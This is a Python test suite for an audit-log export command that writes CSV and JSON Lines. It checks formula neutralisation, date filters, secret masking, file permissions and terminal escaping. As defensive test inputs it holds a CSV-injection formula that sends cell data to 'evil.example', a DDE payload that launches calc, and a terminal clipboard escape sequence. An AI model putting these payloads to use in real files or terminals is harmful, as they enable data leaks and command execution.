"""`cronos_audit export` (issue #15, audit export): JSON Lines for log pipelines, CSV for
spreadsheets with formulas neutralised, filters, the day in the site's zone, secrets absent,
the export itself audited, and the file written whole, 0600, never over another by surprise.

Every export is read back the way its reader would: the CSV with Python's csv module, the JSON
Lines one line at a time with json.loads.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
from datetime import UTC, datetime

import pytest
import time_machine
from django.core.management import call_command
from django.core.management.base import CommandError

from agents import secrets
from agents.services import save_agent
from audit import export
from audit.actor import Actor
from audit.log import record
from audit.management.commands.cronos_audit import _for_terminal
from audit.models import AuditEntry
from tests.factories import make_agent, with_secret
from tests.processes import ROOT, process_env

pytestmark = pytest.mark.django_db

COLUMNS = [
    "id",
    "at",
    "actor",
    "source",
    "ip",
    "action",
    "object_type",
    "object_id",
    "object_name",
    "changes",
    "message",
    "prev_hash",
    "hash",
]


def audit_command(*args: str, stdout=None) -> str:
    out = stdout if stdout is not None else io.StringIO()
    call_command("cronos_audit", "export", *args, stdout=out)
    return out.getvalue()


def csv_rows(text: str) -> list[dict[str, str]]:
    """The CSV as Python's csv module reads it (newline="" as its documentation asks)."""
    reader = csv.reader(io.StringIO(text, newline=""))
    header, *rows = list(reader)
    assert header == COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


def jsonl_rows(text: str) -> list[dict]:
    """JSON Lines read one line at a time: every line one object, each ended by a newline."""
    assert text == "" or text.endswith("\n")
    return [json.loads(line) for line in io.StringIO(text, newline="\n")]


def entry_at(instant: datetime, action: str = "test.action", **fields) -> AuditEntry:
    """An entry written as if at `instant` (AuditEntry.save stamps the clock's time)."""
    who = fields.pop("actor", Actor.system())
    with time_machine.travel(instant, tick=False):
        return record(who, action, **fields)


def person(name: str, source: str = AuditEntry.Source.WEB, ip: str | None = "192.0.2.7") -> Actor:
    return Actor(user=None, source=source, ip_address=ip, name=name)


def export_entries() -> AuditEntry:
    return AuditEntry.objects.filter(action="audit.export").latest("id")


# --- CSV: RFC 4180, formulas neutralised (OWASP) -------------------------------------------------


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_csv_cell_that_starts_like_a_formula_is_prefixed_with_a_quote(start, tmp_path):
    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
    record(person(formula), "login_failed", object_name=formula, message=formula)
    path = tmp_path / "audit.csv"
    audit_command("--format", "csv", "--output", str(path))
    with path.open(encoding="utf-8", newline="") as handle:
        [row] = list(csv.DictReader(handle))
    for column in ("actor", "object_name", "message"):
        assert row[column] == "'" + formula, column
    assert row["action"] == "login_failed"  # nothing else is touched


def test_a_formula_character_later_in_a_cell_and_a_safe_start_are_left_as_they_are():
    assert export.neutralised("a=1+1") == "a=1+1"
    assert export.neutralised("2026-06-15T12:00:00.000000Z") == "2026-06-15T12:00:00.000000Z"
    assert export.neutralised("") == ""
    assert [export.neutralised(c + "x") for c in "=+-@\t\r"] == [
        "'=x",
        "'+x",
        "'-x",
        "'@x",
        "'\tx",
        "'\rx",
    ]


def test_the_csv_quotes_every_field_and_keeps_commas_quotes_and_line_breaks_in_one_cell():
    text = 'a "quoted", two-line\nmessage\r\nwith CRLF'
    entry = record(Actor.system(), "test.action", object_name="x,y", message=text)
    out = audit_command("--format", "csv")
    assert out.startswith('"id","at","actor"')
    assert out.count("\r\n") >= 2  # RFC 4180's line ends
    [row] = csv_rows(out)
    assert row["id"] == str(entry.pk)
    assert row["object_name"] == "x,y"
    assert row["message"] == text


# --- JSON Lines ----------------------------------------------------------------------------------


def test_json_lines_are_read_line_by_line_and_match_the_database(admin_user, tmp_path):
    record(
        Actor(admin_user, AuditEntry.Source.WEB, "2001:db8::1"),
        "agent.update",
        object_name="nightly",
        changes={"schedule": ["0 4 * * *", "0 5 * * *"], "enabled": [False, True]},
        message="Changed",
    )
    # Text a line reader or a terminal would act on: a newline, line separators, C0 and C1
    # controls, DEL.
    tricky = "one\ntwo\u2028three\u2029four\x1b[2J\x85five\x7fsix é ✓"
    record(person("mallory\x1b]0;x\x07", AuditEntry.Source.ADMIN), "login_failed", message=tricky)
    record(Actor.cli(), "secrets.rotate", message="re-encrypted 0 value(s)")
    path = tmp_path / "audit.jsonl"
    audit_command("--format", "jsonl", "--output", str(path))

    exported = []
    with path.open(encoding="utf-8") as handle:  # line by line, as a log shipper reads
        for line in handle:
            assert line.endswith("\n") and line.count("\n") == 1
            exported.append(json.loads(line))
    assert "\u2028" not in path.read_text(encoding="utf-8")
    assert "\x85" not in path.read_text(encoding="utf-8")

    stored = list(AuditEntry.objects.exclude(action="audit.export").order_by("id"))
    assert [row["id"] for row in exported] == [entry.pk for entry in stored]
    for row, entry in zip(exported, stored, strict=True):
        assert list(row) == COLUMNS
        assert row == {
            "id": entry.pk,
            "at": entry.at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
            "actor": entry.actor_username,
            "source": entry.source,
            "ip": entry.ip_address,
            "action": entry.action,
            "object_type": entry.object_type,
            "object_id": entry.object_id,
            "object_name": entry.object_name,
            "changes": entry.changes,
            "message": entry.message,
            "prev_hash": entry.prev_hash,
            "hash": entry.hash,
        }
    by_action = {row["action"]: row for row in exported}
    assert by_action["agent.update"]["changes"] == {
        "schedule": ["0 4 * * *", "0 5 * * *"],
        "enabled": [False, True],
    }
    assert by_action["agent.update"]["object_type"] == ""
    assert by_action["login_failed"]["message"] == tricky
    assert by_action["login_failed"]["ip"] == "192.0.2.7"
    assert by_action["secrets.rotate"]["ip"] is None
    # Each export's first prev_hash joins it to what came before: the chain is checkable.
    assert exported[1]["prev_hash"] == exported[0]["hash"]


def test_the_csv_holds_the_same_rows_as_the_json_lines():
    record(person("ada"), "agent.update", changes={"prompt": ["a", "b"]}, message="m")
    record(Actor.system(), "run.trigger", object_name="nightly #3")
    before = AuditEntry.objects.count()
    lines = jsonl_rows(audit_command("--format", "jsonl"))
    rows = csv_rows(audit_command("--format", "csv"))
    assert len(lines) == before
    assert len(rows) == before + 1  # the jsonl export's own entry, written after it
    for line, row in zip(lines, rows, strict=False):
        assert row["id"] == str(line["id"]) and row["at"] == line["at"]
        assert json.loads(row["changes"]) == line["changes"]
        assert row["ip"] == (line["ip"] or "")


def test_an_empty_export_is_nothing_in_json_lines_and_the_header_in_csv():
    assert not AuditEntry.objects.exists()
    assert audit_command("--format", "jsonl") == ""
    out = audit_command("--format", "csv", "--until", "2000-01-01")
    assert out == ",".join(f'"{column}"' for column in COLUMNS) + "\r\n"
    assert csv_rows(out) == []


# --- Filters -------------------------------------------------------------------------------------


@pytest.fixture
def history():
    """Entries by two people and the system, on three days, of several actions."""
    made = {
        "ada-login": entry_at(
            datetime(2026, 6, 14, 9, 0, tzinfo=UTC), "login", actor=person("ada")
        ),
        "ada-run": entry_at(
            datetime(2026, 6, 15, 9, 0, tzinfo=UTC), "run.trigger", actor=person("ada")
        ),
        "adam-run": entry_at(
            datetime(2026, 6, 15, 10, 0, tzinfo=UTC), "run.cancel", actor=person("adam")
        ),
        "ada-shell": entry_at(
            datetime(2026, 6, 15, 11, 0, tzinfo=UTC),
            "runner.test",
            actor=person("ada (shell)", AuditEntry.Source.CLI, None),
        ),
        "system-run": entry_at(
            datetime(2026, 6, 16, 9, 0, tzinfo=UTC), "run", actor=Actor.system()
        ),
        "ada-edit": entry_at(
            datetime(2026, 6, 16, 10, 0, tzinfo=UTC), "agent.update", actor=person("ada")
        ),
    }
    return {name: entry.pk for name, entry in made.items()}


def exported_ids(*args: str) -> list[int]:
    """The ids exported, but the entries of the exports themselves (written at the test
    clock's time, which may be any: `pytest --at`)."""
    rows = jsonl_rows(audit_command("--format", "jsonl", *args))
    return [row["id"] for row in rows if row["action"] != "audit.export"]


def names(history: dict[str, int], ids: list[int]) -> list[str]:
    by_id = {pk: name for name, pk in history.items()}
    return [by_id[pk] for pk in ids]


def test_actor_is_a_user_name_exactly(history):
    assert names(history, exported_ids("--actor", "ada")) == ["ada-login", "ada-run", "ada-edit"]
    assert names(history, exported_ids("--actor", "ada (shell)")) == ["ada-shell"]
    assert exported_ids("--actor", "ad") == []
    assert exported_ids("--actor", "ADA") == []


def test_action_is_exact_or_a_dotted_prefix(history):
    assert names(history, exported_ids("--action", "run.")) == ["ada-run", "adam-run"]
    assert names(history, exported_ids("--action", "run")) == ["ada-run", "adam-run", "system-run"]
    assert names(history, exported_ids("--action", "run.cancel")) == ["adam-run"]
    assert names(history, exported_ids("--action", "agent.update")) == ["ada-edit"]
    assert exported_ids("--action", "ru") == []  # not a word of the action: runner is not run


def test_since_is_inclusive_and_until_exclusive_for_instants(history):
    since = "2026-06-15T09:00:00Z"
    until = "2026-06-16T09:00:00+00:00"
    assert names(history, exported_ids("--since", since, "--until", until)) == [
        "ada-run",
        "adam-run",
        "ada-shell",
    ]
    # An offset is that instant: 11:00+02:00 is 09:00 UTC.
    assert exported_ids("--since", "2026-06-15T11:00:00+02:00") == exported_ids("--since", since)


def test_filters_combine(history):
    ids = exported_ids("--actor", "ada", "--action", "run", "--since", "2026-06-15")
    assert names(history, ids) == ["ada-run"]


@pytest.mark.date_sensitive
def test_a_date_is_the_whole_day_in_the_sites_time_zone(settings):
    settings.TIME_ZONE = "Europe/Paris"  # UTC+2 in June
    instants = {
        "14th, 23:59:59 in Paris": datetime(2026, 6, 14, 21, 59, 59, tzinfo=UTC),
        "15th, midnight in Paris": datetime(2026, 6, 14, 22, 0, tzinfo=UTC),
        "15th, 23:59:59 in Paris": datetime(2026, 6, 15, 21, 59, 59, 999999, tzinfo=UTC),
        "16th, midnight in Paris": datetime(2026, 6, 15, 22, 0, tzinfo=UTC),
    }
    ids = {name: entry_at(at, message=name).pk for name, at in instants.items()}
    day = exported_ids("--since", "2026-06-15", "--until", "2026-06-15")
    assert day == [ids["15th, midnight in Paris"], ids["15th, 23:59:59 in Paris"]]
    # A date and time without an offset is read in the site's zone too.
    assert exported_ids("--since", "2026-06-15T00:00") == day + [ids["16th, midnight in Paris"]]
    assert exported_ids("--until", "2026-06-15T00:00:00") == [ids["14th, 23:59:59 in Paris"]]
    # What the export's own entry keeps: the instants, in UTC.
    audited = export_entries().changes
    assert audited["until"] == "2026-06-14T22:00:00.000000Z"


@pytest.mark.date_sensitive
def test_a_day_with_a_daylight_saving_change_has_its_own_length(settings):
    settings.TIME_ZONE = "Europe/Paris"  # 29 March 2026: 02:00 CET becomes 03:00 CEST
    first = entry_at(datetime(2026, 3, 28, 23, 0, tzinfo=UTC))  # 00:00 CET on the 29th
    last = entry_at(datetime(2026, 3, 29, 21, 59, 59, tzinfo=UTC))  # 23:59:59 CEST
    entry_at(datetime(2026, 3, 28, 22, 59, 59, tzinfo=UTC))  # 23:59:59 CET on the 28th
    entry_at(datetime(2026, 3, 29, 22, 0, tzinfo=UTC))  # 00:00 CEST on the 30th
    ids = exported_ids("--since", "2026-03-29", "--until", "2026-03-29")
    assert ids == [first.pk, last.pk]  # 23 hours


# --- Refusals: one line, exit status 2 -----------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "said"),
    [
        (("--since", "2026-13-45"), "--since '2026-13-45' is not a date (2026-06-15)"),
        (("--until", "yesterday"), "--until 'yesterday' is not a date"),
        (("--since", "9999-12-31T23:59:59-23:59"), "outside the calendar"),
        (("--until", "9999-12-31"), "outside the calendar"),
        (
            ("--since", "2026-06-16", "--until", "2026-06-15"),
            "--since 2026-06-16 is not before --until 2026-06-15",
        ),
        (("--force",), "--force replaces the file of --output, and there is none."),
    ],
)
def test_a_bad_date_or_option_is_one_line_with_status_2_and_exports_nothing(args, said):
    with pytest.raises(CommandError) as refused:
        audit_command("--format", "csv", *args)
    assert said in str(refused.value)
    assert "\n" not in str(refused.value)
    assert refused.value.returncode == 2
    assert not AuditEntry.objects.filter(action="audit.export").exists()


def test_a_bad_format_is_refused_naming_the_choices():
    with pytest.raises(CommandError, match=r"invalid choice: 'xml' \(choose from 'jsonl', 'csv'\)"):
        audit_command("--format", "xml")
    with pytest.raises(CommandError, match="the following arguments are required: --format"):
        audit_command()


@pytest.mark.django_db(transaction=True)
def test_as_a_real_process_a_bad_date_or_format_is_one_line_and_status_2():
    def run(*args: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            [sys.executable, "manage.py", "cronos_audit", "export", *args],
            cwd=ROOT,
            env=process_env(),
            capture_output=True,
            text=True,
            timeout=60,
        )

    bad_date = run("--format", "csv", "--since", "2026-02-30")
    assert bad_date.returncode == 2
    assert bad_date.stderr.strip().splitlines() == [
        "CommandError: --since '2026-02-30' is not a date (2026-06-15) nor a date and time "
        "(2026-06-15T09:30, 2026-06-15T09:30:00+02:00)."
    ]
    bad_format = run("--format", "xml")
    assert bad_format.returncode == 2
    assert "invalid choice: 'xml'" in bad_format.stderr and "Traceback" not in bad_format.stderr
    record(person("ada"), "login", message="=cmd|' /C calc'!A0")
    good = run("--format", "csv", "--actor", "ada")
    assert good.returncode == 0, good.stderr
    [row] = csv_rows(good.stdout)
    assert row["message"] == "'=cmd|' /C calc'!A0"


# --- The export is audited -----------------------------------------------------------------------


def test_the_export_is_audited_as_the_shell_account_with_its_filters_and_row_count(
    history, settings
):
    settings.TIME_ZONE = "UTC"
    out = audit_command(
        "--format", "csv", "--actor", "ada", "--action", "run", "--since", "2026-06-15"
    )
    entry = export_entries()
    assert entry.source == AuditEntry.Source.CLI
    assert entry.actor_username.endswith(" (shell)") and entry.actor is None
    assert entry.changes == {
        "format": "csv",
        "since": "2026-06-15T00:00:00.000000Z",
        "actor": "ada",
        "action": "run",
        "rows": 1,
        "newest_id": history["ada-edit"],
    }
    assert entry.message == "exported 1 entry as CSV to standard output"
    assert [int(row["id"]) for row in csv_rows(out)] == [history["ada-run"]]
    # The export's own entry is not in it: it is in the next one.
    rows = jsonl_rows(audit_command("--format", "jsonl"))
    assert [row["id"] for row in rows][-1] == entry.pk
    assert rows[-1]["changes"]["rows"] == 1


def test_an_export_as_a_user_is_audited_as_them(admin_user, tmp_path):
    path = tmp_path / "out.jsonl"
    said = audit_command("--format", "jsonl", "--user", admin_user.username, "--output", str(path))
    entry = export_entries()
    assert entry.actor_username == "ada" and entry.actor == admin_user
    assert entry.changes["rows"] == 0 and entry.changes["format"] == "jsonl"
    assert entry.message == f"exported 0 entries as JSON Lines to {path}"
    assert said == f"Exported 0 entries as JSON Lines to {path}.\n"


@pytest.mark.parametrize("role", ["viewer", "operator", "editor", "approver"])
def test_a_user_without_the_audit_permission_cannot_export(role, request, tmp_path):
    user = request.getfixturevalue(role)
    record(Actor.system(), "test.action")
    path = tmp_path / "out.csv"
    with pytest.raises(CommandError) as refused:
        audit_command("--format", "csv", "--user", user.username, "--output", str(path))
    assert str(refused.value) == (f"{user.username} lacks the permission audit.view_auditentry.")
    assert refused.value.returncode == 2
    assert not path.exists()
    assert not AuditEntry.objects.filter(action="audit.export").exists()


# --- Secrets are never in an export --------------------------------------------------------------


def test_an_agent_secret_set_through_the_service_is_in_no_export(editor, client, admin_user):
    first, second = "s3cr3t-first-value-9876", "an0ther-s3cr3t-value-5432"
    agent = with_secret(make_agent("nightly"), "API_TOKEN", first)
    save_agent(agent, Actor(editor, AuditEntry.Source.WEB, "192.0.2.9"))
    agent.variables = [secrets.secret("API_TOKEN", second), secrets.plain("MODE", "fast")]
    save_agent(agent, Actor(editor, AuditEntry.Source.WEB, "192.0.2.9"))
    ciphertexts = [v["ciphertext"] for v in agent.variables if v.get("secret")]
    ciphertexts += [
        v["ciphertext"]
        for version in agent.history.all()
        for v in version.variables
        if v.get("secret")
    ]
    assert len(ciphertexts) >= 2

    client.force_login(admin_user)
    exports = {
        "command jsonl": audit_command("--format", "jsonl"),
        "command csv": audit_command("--format", "csv"),
        "download jsonl": b"".join(client.get("/audit/export.jsonl").streaming_content).decode(),
        "download csv": b"".join(client.get("/audit/export.csv").streaming_content).decode(),
    }
    for where, text in exports.items():
        assert first not in text and second not in text, where
        for ciphertext in ciphertexts:
            assert ciphertext not in text, where
        # The change itself is there, masked.
        assert "API_TOKEN=•••••••• (secret, changed)" in text, where
        assert "MODE=fast" in text, where


# --- The file: whole, 0600, never over another unless --force ------------------------------------


def test_the_output_file_is_0600_and_no_temporary_file_is_left(tmp_path):
    record(Actor.system(), "test.action", message="hello")
    path = tmp_path / "audit.csv"
    said = audit_command("--format", "csv", "--output", str(path))
    assert said == f"Exported 1 entry as CSV to {path}.\n"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert [p.name for p in tmp_path.iterdir()] == ["audit.csv"]
    assert csv_rows(path.read_text(encoding="utf-8"))[0]["message"] == "hello"


def test_an_existing_file_is_refused_unless_forced(tmp_path):
    path = tmp_path / "audit.jsonl"
    path.write_text("keep me\n")
    path.chmod(0o644)
    with pytest.raises(CommandError) as refused:
        audit_command("--format", "jsonl", "--output", str(path))
    assert str(refused.value) == f"{path} exists: give --force to replace it. Nothing was exported."
    assert refused.value.returncode == 2
    assert path.read_text() == "keep me\n"
    assert not AuditEntry.objects.filter(action="audit.export").exists()

    audit_command("--format", "jsonl", "--output", str(path), "--force")
    assert path.read_text() == ""  # the log was empty before this export
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert sorted(p.name for p in tmp_path.iterdir()) == ["audit.jsonl"]


def test_a_dangling_link_is_an_existing_file_too(tmp_path):
    path = tmp_path / "audit.csv"
    os.symlink(tmp_path / "elsewhere.csv", path)
    with pytest.raises(CommandError, match="exists: give --force"):
        audit_command("--format", "csv", "--output", str(path))
    assert not (tmp_path / "elsewhere.csv").exists()


@pytest.mark.parametrize(
    ("target", "said"),
    [(".", "is a folder"), ("missing/audit.csv", "There is no folder")],
)
def test_an_output_that_cannot_be_written_is_refused_before_anything_is_audited(
    tmp_path, target, said
):
    with pytest.raises(CommandError, match=said) as refused:
        audit_command("--format", "csv", "--output", str(tmp_path / target))
    assert refused.value.returncode == 2
    assert not AuditEntry.objects.exists()


def test_a_file_that_appears_while_the_export_is_written_is_not_overwritten(tmp_path, monkeypatch):
    path = tmp_path / "audit.csv"
    real = export.chunks

    def racing(started):
        path.write_text("someone else's\n")
        yield from real(started)

    monkeypatch.setattr(export, "chunks", racing)
    with pytest.raises(CommandError, match="was created while the export was written"):
        audit_command("--format", "csv", "--output", str(path))
    assert path.read_text() == "someone else's\n"
    assert [p.name for p in tmp_path.iterdir()] == ["audit.csv"]


# --- A terminal gets nothing it would act on -----------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_to_a_terminal_escape_sequences_are_written_out_and_to_a_pipe_they_are_kept():
    name = "x\x1b]52;c;ZXZpbA==\x07\u202ey"
    record(person(name), "login_failed", object_name=name)
    shown = audit_command("--format", "csv", stdout=Terminal())
    assert "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    assert "x\\x1b]52;c;ZXZpbA==\\x07\\u202ey" in shown
    piped = audit_command("--format", "csv")
    assert csv_rows(piped)[0]["object_name"] == name
    assert _for_terminal("a\tb\r\nc") == "a\tb\r\nc"


# --- Large logs ----------------------------------------------------------------------------------


def test_a_log_larger_than_a_batch_is_read_in_batches_and_exported_whole(monkeypatch):
    monkeypatch.setattr(export, "BATCH", 3)
    monkeypatch.setattr(export, "CHUNK_CHARS", 500)
    made = [record(Actor.system(), "test.action", message=f"entry {n}").pk for n in range(10)]
    started = export.start(export.Filters(), "jsonl", Actor.cli(), destination="a test")
    pieces = list(export.chunks(started))
    assert len(pieces) > 1
    assert [row["id"] for row in jsonl_rows("".join(pieces))] == made
    assert started.rows == 10
